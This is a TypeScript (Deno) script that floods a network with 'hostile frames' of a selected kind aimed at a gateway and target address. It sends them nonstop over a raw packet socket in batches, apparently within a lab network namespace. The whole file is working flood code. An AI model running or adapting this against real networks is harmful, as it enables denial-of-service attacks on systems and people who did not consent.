/**
 * Sends hostile frames by an interface of the namespace it runs in, as many as the kernel takes, until it
 * is ended.
 *
 * Run: `deno run --allow-all flood.ts KIND INTERFACE GATEWAY-MAC OWN-ADDRESS GATEWAY TARGET`
 */
import { FrameBatch, Libc, PacketSocket, RtNetlink } from "@contiv/libc";
import { IpAddress, MacAddress } from "@contiv/net";
import { floodFrame, FLOODS } from "./flood_frames.ts";

/** Distinct frames, sent over and over, and how many at a time. */
const FRAMES = 16_384;
const BATCH = 64;

const [kind, name = "", gatewayMac = "", own = "", gateway = "", target = ""] = Deno.args;
const flood = FLOODS.find((each) => each === kind);
if (flood === undefined) throw new Error(`Cannot flood with ${kind}, one of ${FLOODS} wanted`);
const libc = Libc.open();
const link = RtNetlink.open(libc).link(name);
if (link?.mac === undefined) throw new Error(`Cannot flood: there is no interface ${name} here`);
const scene = {
  mac: link.mac,
  gatewayMac: MacAddress.parse(gatewayMac),
  own: IpAddress.parse(own),
  gateway: IpAddress.parse(gateway),
  target: IpAddress.parse(target),
};
const frames = Array.from({ length: FRAMES }, (_, i) => floodFrame(flood, i, scene));
const stride = Math.max(...frames.map(({ length }) => length));
const arena = new Uint8Array(FRAMES * stride);
const socket = PacketSocket.open(libc, {
  index: link.index,
  vnetHeader: false,
  ignoreOutgoing: true,
  protocol: 0,
});
const batches: FrameBatch[] = [];
for (let from = 0; from < FRAMES; from += BATCH) {
  const batch = new FrameBatch(arena, BATCH);
  for (let i = 0; i < BATCH; i++) {
    const frame = frames[from + i] ?? new Uint8Array(0);
    arena.set(frame, (from + i) * stride);
    batch.place(i, (from + i) * stride, frame.length);
  }
  batches.push(batch);
}
console.log("flooding");
for (;;) for (const batch of batches) socket.writeMany(batch, BATCH);
